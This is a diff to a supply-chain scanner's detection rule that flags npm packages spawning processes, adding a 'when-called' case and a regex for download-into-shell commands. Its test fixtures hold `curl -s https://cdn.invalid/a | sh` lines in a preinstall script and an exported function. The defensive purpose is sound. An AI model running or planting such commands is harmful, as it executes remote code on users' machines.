@@ -33,6 +33,11 @@ export const childProcessAtLoad: Rule = defineRule({
       about:
         'The command runs what it downloads, hands text to a shell or another interpreter, was decoded or downloaded, or runs detached with its output thrown away.',
     },
+    'when-called': {
+      level: 'review',
+      about:
+        'A function that users call starts a command that runs what it downloads, or that was decoded or downloaded.',
+    },
   },
   flags: [
     {
@@ -73,7 +78,7 @@ export const childProcessAtLoad: Rule = defineRule({
       expect: [
         {
           kind: 'disguised',
-          message: 'child_process.spawn starts "… worker.js"',
+          message: 'child_process.spawn starts "node worker.js"',
           at: { in: 'tarball', path: 'setup.mjs', line: 2 },
           via: ['scripts/postinstall', 'setup.mjs'],
         },
@@ -89,6 +94,21 @@ export const childProcessAtLoad: Rule = defineRule({
           message: 'npm (preinstall) starts "curl -s https://cdn.invalid/a | sh"',
           at: { in: 'tarball', path: 'package.json', line: 5 },
           via: ['scripts/preinstall'],
+        },
+      ],
+    },
+    {
+      title: 'a download into a shell when a function is called',
+      before: { 'index.js': '' },
+      after: {
+        'index.js': `exports.setup = () => require('child_process').exec('curl -s https://cdn.invalid/a | sh');\n`,
+      },
+      expect: [
+        {
+          kind: 'when-called',
+          message: 'child_process.exec starts "curl -s https://cdn.invalid/a | sh"',
+          at: { in: 'tarball', path: 'index.js', line: 1 },
+          via: ['main', 'index.js', 'setup()'],
         },
       ],
     },
@@ -123,14 +143,20 @@ export const childProcessAtLoad: Rule = defineRule({
   check({ behaviors }) {
     return behaviors.added.filter(isStarted).map((behavior) => {
       const message = `${behavior.api} starts ${behavior.detail === undefined ? 'a program' : `"${shorten(behavior.detail, 160)}"`}`;
-      return evidenceOf(behavior, message, isDisguised(behavior) ? 'disguised' : undefined);
+      return evidenceOf(behavior, message, kindOf(behavior));
     });
   },
 });
 
+function kindOf(behavior: Behavior): 'disguised' | 'when-called' | undefined {
+  if (behavior.tier === 'call') return 'when-called';
+  return isDisguised(behavior) ? 'disguised' : undefined;
+}
+
 /** A command line tool is there to start programs: only a disguise makes that worth a word. */
 function isStarted(behavior: Behavior): boolean {
-  if (behavior.kind !== 'child-process' || (behavior.tier !== 'install' && behavior.tier !== 'load')) return false;
+  if (behavior.kind !== 'child-process' || behavior.tier === 'unreached') return false;
+  if (behavior.tier === 'call') return runsForeign(behavior);
   return behavior.root !== 'bin' || isDisguised(behavior);
 }
 
@@ -139,3 +165,12 @@ function isDisguised({ marks, origins, root }: Behavior): boolean {
   if (marks.includes('pipe')) return true;
   return root !== 'bin' && marks.includes('detached') && marks.includes('silenced');
 }
+
+/** Starting programs is what users call some functions for; running what the network gives is not. */
+function runsForeign({ origins, detail }: Behavior): boolean {
+  if (origins.includes('decoded') || origins.includes('fetched')) return true;
+  return detail !== undefined && downloadIntoShell.test(detail);
+}
+
+const downloadIntoShell =
+  /\b(?:curl|wget|fetch)\b[^|\n]{0,300}\|\s*(?:sudo\s+)?(?:(?:ba|z|k|da)?sh|node|python\d?|perl)\b|\b(?:iwr|irm|Invoke-WebRequest|DownloadString)\b[^\n]{0,300}\b(?:iex|Invoke-Expression|rundll32|Start-Process)\b/i;
